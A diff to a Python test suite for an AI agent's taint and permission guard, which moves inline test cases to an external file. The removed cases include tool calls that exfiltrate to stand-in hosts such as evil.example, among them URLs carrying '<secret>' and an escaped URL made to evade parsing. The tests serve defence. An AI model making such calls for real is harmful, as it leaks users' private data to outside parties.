@@ -24,6 +24,9 @@ from core.events.types import (
 from core.observation import McpObservation, TextContent
 from core.storage.workspace import Workspace
 from core.toolkit.articles import Article, article_path, encode_article
+from tests.core.cases import cases_of
+
+CASES = cases_of(__file__)
 
 CRAWL = "mcp__local_toolkit__crawl_parallel"
 READ = "mcp__local_toolkit__read_local_file"
@@ -75,29 +78,7 @@ def crawl(taint: Taint, *urls: str) -> str | None:
 
 
 def test_what_is_not_the_users_taints_and_is_named(other: Callable[[], Taint]) -> None:
-    for tool, given, named in (
-        (CRAWL, {"urls": ["https://www.a.example/1", "https://a.example/2"]}, "2 pages of a.example"),
-        (PAGE, {"url": "https://a.example/1"}, "1 page of a.example"),
-        ("WebFetch", {"url": "https://a.example/1", "prompt": "?"}, "1 page of a.example"),
-        ("WebSearch", {"query": "x"}, "1 search result"),
-        (NEWS, {"query": "x"}, "1 search result"),
-        (MULTI, multi(COMPOSIO_SEARCH_NEWS={}, TAVILY_SEARCH={}), "2 search results"),
-        (MAIL, {}, "1 result of GMAIL_FETCH_EMAILS"),
-        (MULTI, multi(GMAIL_FETCH_EMAILS={}), "1 result of GMAIL_FETCH_EMAILS"),
-        (MULTI, {"tools": "?"}, "1 result of COMPOSIO_MULTI_EXECUTE_TOOL"),
-        ("mcp__composio__COMPOSIO_REMOTE_WORKBENCH", {}, "1 result of COMPOSIO_REMOTE_WORKBENCH"),
-        ("mcp__notes__find", {}, "1 result of notes"),
-        ("ReadMcpResourceTool", {"server": "notes", "uri": "notes://1"}, "1 result of notes"),
-        ("ListMcpResourcesTool", {}, "1 result of MCP servers"),
-        (READ, {"path": "given.txt"}, "1 file"),
-        ("Read", {"file_path": "given.txt"}, "1 file"),
-        ("Grep", {"pattern": "x"}, "1 file"),
-        ("Bash", {"command": "ls"}, "1 result of Bash"),
-        ("SomethingNew", {}, "1 result of SomethingNew"),
-        (KNOWLEDGE, {"query": "x"}, "1 result of the knowledge base"),
-        (KNOWN, {"id": 1}, "1 result of the knowledge base"),
-        ("mcp__local_toolkit__knowledge_sources", {"url": EVIL}, "1 result of the knowledge base"),
-    ):  # fmt: skip
+    for tool, given, named in CASES["what_is_not_the_users_taints_and_is_named"]:
         taint = other()
         heard: list[str] = []
         taint.on_start = heard.append
@@ -110,18 +91,7 @@ def test_what_is_not_the_users_taints_and_is_named(other: Callable[[], Taint]) -
 
 
 def test_what_cannot_hold_other_text_does_not_taint(other: Callable[[], Taint]) -> None:
-    for tool, given in (
-        (WRITE, {"path": "a.html"}),
-        ("mcp__local_toolkit__list_directory", {"path": ""}),
-        ("mcp__local_toolkit__save_corpus", {}),
-        ("mcp__local_toolkit__workbench_download", {"path": "/mnt/files/a"}),
-        ("mcp__composio__COMPOSIO_SEARCH_TOOLS", {}),
-        ("Glob", {"pattern": "*"}),
-        ("TodoWrite", {}),
-        ("Skill", {"skill": "x"}),
-        ("Write", {"file_path": "a"}),
-        ("Agent", {"prompt": "x"}),
-    ):  # fmt: skip
+    for tool, given in CASES["what_cannot_hold_other_text_does_not_taint"]:
         taint = other()
         read(taint, tool, given)
         assert not taint.is_set
@@ -272,30 +242,9 @@ def test_links_in_an_article_that_the_agent_may_have_written_do_not_count(
 
 def test_what_carries_data_out_asks(other: Callable[[], Taint]) -> None:
     for tool, given in (
-        ("mcp__composio__GMAIL_SEND_EMAIL", {"recipient_email": "a@b.example"}),
-        (MULTI, multi(COMPOSIO_SEARCH_NEWS={}, SLACK_POST_MESSAGE={})),
-        (MULTI, {"tools": "?"}),
-        ("mcp__composio__COMPOSIO_REMOTE_WORKBENCH", {"code_to_execute": "1"}),
-        ("mcp__composio__GITHUB_PROXY_EXECUTE", {}),
-        ("mcp__local_toolkit__workbench_upload", {"path": "a"}),
-        ("mcp__notes__create_page", {}),
-        ("Bash", {"command": "git diff"}),
-        ("ReadMcpResourceTool", {"server": "notes", "uri": EVIL}),
-        (PAGE, {"url": EVIL}),
-        ("WebFetch", {"url": EVIL, "prompt": "x"}),
-        ("WebSearch", {"query": f"read {EVIL}"}),
-        (CRAWL, {"urls": json.dumps([EVIL])}),
-        (CRAWL, {"urls": "https://evil.example"}),
-        (CRAWL, {"urls": ["//evil.example/x"]}),
-        (CRAWL, {"urls": ["https://known.example/a<secret>"]}),
-        (CRAWL, {"urls": json.dumps(["https://known.example/a<secret>"])}),
-        ("mcp__composio__COMPOSIO_SEARCH_FETCH_URL_CONTENT", {"urls": [EVIL]}),
-        (MULTI, multi(TAVILY_EXTRACT={"urls": ["evil.example/?secret"]})),
-        ("mcp__notes__fetch", {"options": {"host": "secret.evil.example"}}),
-        ("mcp__notes__fetch", {"options": json.dumps({"target": "https:\\/\\/evil.example\\/x"})}),
-        ("mcp__notes__fetch", {"text": "go to https://evil.example/x now"}),
+        *CASES["what_carries_data_out_asks"],
         ("mcp__notes__fetch", {"deep": [[[[["x"] * 60_000]]]]}),
-    ):  # fmt: skip
+    ):
         taint = other()
         taint.known.add("https://known.example/a")
         assert reason(taint, tool, **given) is None
@@ -306,19 +255,7 @@ def test_what_carries_data_out_asks(other: Callable[[], Taint]) -> None:
 
 
 def test_what_stays_here_or_is_known_does_not_ask(other: Callable[[], Taint]) -> None:
-    for tool, given in (
-        (NEWS, {"query": "see https://known.example/a, please", "include_domains": ["new.example"]}),
-        ("WebSearch", {"query": "x", "allowed_domains": ["new.example"]}),
-        (WRITE, {"path": "a.html", "content": EVIL}),
-        (READ, {"path": "a.html"}),
-        ("Write", {"file_path": "a", "content": EVIL}),
-        ("Agent", {"prompt": EVIL}),
-        ("TodoWrite", {"todos": [EVIL]}),
-        ("mcp__composio__COMPOSIO_MANAGE_CONNECTIONS", {"toolkits": ["gmail"]}),
-        ("mcp__composio__GMAIL_FETCH_EMAILS", {"query": "from:me"}),
-        ("ReadMcpResourceTool", {"server": "notes", "uri": "notes://host.example/x"}),
-        ("mcp__notes__fetch", {"url": "known.example/a", "file": "report.md"}),
-    ):  # fmt: skip
+    for tool, given in CASES["what_stays_here_or_is_known_does_not_ask"]:
         taint = other()
         taint.known.add("https://known.example/a")
         read(taint, MAIL, {})
@@ -330,13 +267,7 @@ def asked(**more: Any) -> PermissionAsked:
 
 
 def test_an_address_that_a_person_allowed_or_wrote_is_known(other: Callable[[], Taint]) -> None:
-    for decision, scope, why, known in (
-        ("allow", "once", "", True),
-        ("deny", "once", f"use {EVIL} never", True),
-        ("deny", "once", "", False),
-        ("deny", "headless", f"start with --allow '{EVIL}'", False),
-        ("deny", "interrupted", "", False),
-    ):  # fmt: skip
+    for decision, scope, why, known in CASES["an_address_that_a_person_allowed_or_wrote_is_known"]:
         taint = other()
         read(taint, MAIL, {})
         taint.handle_event(asked())
